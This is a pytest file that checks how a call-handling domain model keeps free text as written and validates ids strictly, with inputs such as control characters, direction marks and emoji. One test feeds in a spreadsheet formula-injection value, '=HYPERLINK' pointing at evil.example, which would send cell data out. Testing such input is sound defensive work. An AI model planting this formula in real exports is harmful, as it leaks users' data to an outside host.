"""Free text is kept as it is, and an id is strict."""

from __future__ import annotations

import pytest
from pydantic import ValidationError

from domain import commands
from domain.vocabulary import SYSTEM
from tests.domain import scenes as s
from tests.domain.scenes import A1
from tests.domain.specification import command, given

FREE = [
    pytest.param("asks to be called back\non Tuesday", id="two lines"),
    pytest.param("first\r\n\r\nsecond\u2028third\u2029fourth", id="all breaks of lines"),
    pytest.param("a\tb", id="a tab"),
    pytest.param("👩\u200d👩\u200d👧\u200d👦 ❤️", id="joined emoji"),
    pytest.param("\u200fשלום\u200e \u202eabc\u202c", id="marks of direction"),
    pytest.param("a\x00b\x1b[31m", id="controls, NUL among them"),
    pytest.param("می\u200cخواهم", id="joined no more"),
    pytest.param("\ue000\U0010ffff", id="private and unassigned characters"),
    pytest.param("e\u0301 \u00e9", id="composed and not"),
    pytest.param("  ", id="blanks"),
    pytest.param("x" * 1000, id="as long as may be"),
]


@pytest.mark.parametrize("text", FREE)
def test_a_note_and_a_why_are_kept_as_they_are(text: str) -> None:
    note = command(commands.ApplyWrapUp, A1, reason="sold", note=text)
    for when in (given(*s.ended()).when, given(*s.ended()).when_observed):
        when(note).with_fields("wrap-up-applied", reason="sold", note=text)
    why = command(commands.Correct, "auditor", corrected_version=1, why=text)
    given(*s.closed()).when(why).with_fields("corrected", why=text)


@pytest.mark.parametrize("text", [one for one in FREE if "x" * 1000 not in one.values])
def test_names_and_other_systems_words_are_kept_as_they_are(text: str) -> None:
    customer = command(commands.Receive, SYSTEM, customer=text)
    given().when(customer).with_fields("received", customer=text)
    note = command(commands.NoteActivity, SYSTEM, activity=text)
    given(*s.queued()).when(note).with_fields("activity-noted", activity=text)
    cut = command(commands.MarkIncomplete, SYSTEM, missing=text)
    given(*s.queued()).when(cut).with_fields("marked-incomplete", missing=text)


def test_an_empty_note_does_not_lose_the_reason() -> None:
    note = command(commands.ApplyWrapUp, A1, reason="sold", note="")
    given(*s.ended()).when(note).with_fields("wrap-up-applied", reason="sold")


def test_a_long_note_does_not_lose_the_reason() -> None:
    note = command(commands.ApplyWrapUp, A1, reason="sold", note="x" * 50_000)
    given(*s.ended()).when(note).with_fields("wrap-up-applied", reason="sold", note="x" * 50_000)


def test_what_is_no_text_at_all_or_too_long_a_why_is_not_read() -> None:
    with pytest.raises(ValidationError):
        command(commands.ApplyWrapUp, A1, reason="sold", note="\ud83d")
    with pytest.raises(ValidationError):
        command(commands.Correct, "auditor", corrected_version=1, why="x" * 1001)


SPELT = [
    pytest.param("پشتیبانی\u200cفنی", id="Persian"),
    pytest.param("ශ්\u200dරී", id="Sinhala"),
    pytest.param("അവന്\u200d", id="Malayalam, joined at its end"),
    pytest.param("👩🏽\u200d🚀 👩\u200d👩\u200d👧\u200d👦", id="joined emoji with a tone of skin"),
    pytest.param("❤️\u200d🔥 1️⃣", id="variants of emoji"),
    pytest.param(
        "🇮🇹 \U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f", id="flags"
    ),
    pytest.param("e\u0301 日本 हिन्दी עברית", id="letters of all scripts with their marks"),
]


@pytest.mark.parametrize("text", SPELT)
def test_ids_and_codes_are_kept_as_every_script_spells_them(text: str) -> None:
    given(*s.queued()).when(command(commands.Offer, SYSTEM, agent=text)).with_fields(
        "offered", agent=text
    )
    queue = command(commands.Receive, SYSTEM, call_id=text, queue=text)
    given().when(queue).with_fields("received", queue=text)
    reason = command(commands.ApplyWrapUp, A1, reason=text)
    given(*s.ended()).when(reason).with_fields("wrap-up-applied", reason=text)


@pytest.mark.parametrize(
    "text",
    [
        *(
            "a\nb",
            "a\tb",
            "a\u200db",
            "\u200fa",
            "a\x00",
            "",
            "x" * 129,
            "\u200cس",
            "س\u200c\u200cس",
        ),
        *("a\U000e0067", "\U0001f3f4\U000e0067", "שלום\u200e"),
    ],
)
@pytest.mark.parametrize("field", ["call_id", "actor", "reason"])
def test_ids_and_codes_are_strict(field: str, text: str) -> None:
    with pytest.raises(ValidationError):
        command(commands.ApplyWrapUp, **{"actor": A1, "reason": "sold", field: text})


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?"&A1)', "+390612345678", "@a"])
def test_what_a_spreadsheet_would_read_as_a_formula_is_an_id_like_any_other(text: str) -> None:
    assert command(commands.ApplyWrapUp, text, reason=text, call_id=text).call_id == text
